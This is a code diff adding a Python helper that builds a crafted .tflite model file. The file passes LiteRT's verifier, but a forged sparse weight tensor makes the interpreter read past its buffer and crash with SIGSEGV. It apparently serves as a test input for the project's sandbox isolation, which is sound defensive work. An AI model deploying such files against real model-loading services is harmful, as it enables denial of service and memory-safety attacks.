@@ -71,3 +71,46 @@ def train_and_export(directory: Path, *, epochs: int = 3, seed: int = 0):
     manifest = export.export_model(model, directory / "export", quantize=(None, "int8"),
                                    representative_data=x[:256])
     return keras_path, directory / "export", manifest
+
+
+def crashing_tflite(source: Path, target: Path, rows: int = 1_000_000) -> Path:
+    """Write a copy of a float ``.tflite`` that makes LiteRT die with SIGSEGV.
+
+    The flatbuffer stays structurally valid (it passes LiteRT's verifier and
+    our "TFL3" check): the last FULLY_CONNECTED layer's weights claim ``rows``
+    output units but hold 16 bytes. Marking the tensor sparse skips the
+    interpreter's buffer-size check, and packing the weights then reads ~40 MB
+    past the buffer. This is the kind of crafted file the isolation exists for.
+    """
+    import flatbuffers
+    import numpy as np
+    from ai_edge_litert import schema_py_generated as schema
+
+    model = schema.ModelT.InitFromObj(schema.Model.GetRootAsModel(source.read_bytes(), 0))
+    graph = model.subgraphs[0]
+    fc = [op for op in graph.operators
+          if model.operatorCodes[op.opcodeIndex].builtinCode
+          == schema.BuiltinOperator.FULLY_CONNECTED][-1]
+    weights = graph.tensors[fc.inputs[1]]
+    weights.shape = np.array([rows, weights.shape[1]], np.int32)
+
+    def int32_vector(values):
+        vector = schema.Int32VectorT()
+        vector.values = np.array(values, np.int32)
+        return vector
+
+    dense = schema.DimensionMetadataT()
+    dense.format, dense.denseSize = schema.DimensionType.DENSE, rows
+    csr = schema.DimensionMetadataT()
+    csr.format = schema.DimensionType.SPARSE_CSR
+    csr.arraySegmentsType = csr.arrayIndicesType = schema.SparseIndexVector.Int32Vector
+    csr.arraySegments, csr.arrayIndices = int32_vector(range(0, 21, 2)), int32_vector([3] * 20)
+    weights.sparsity = schema.SparsityParametersT()
+    weights.sparsity.traversalOrder = np.array([0, 1], np.int32)
+    weights.sparsity.dimMetadata = [dense, csr]
+    model.buffers[weights.buffer].data = np.zeros(16, np.uint8)
+    fc.inputs = np.array([fc.inputs[0], fc.inputs[1], -1], np.int32)  # no bias to size-check
+    builder = flatbuffers.Builder(1024)
+    builder.Finish(model.Pack(builder), file_identifier=b"TFL3")
+    target.write_bytes(builder.Output())
+    return target
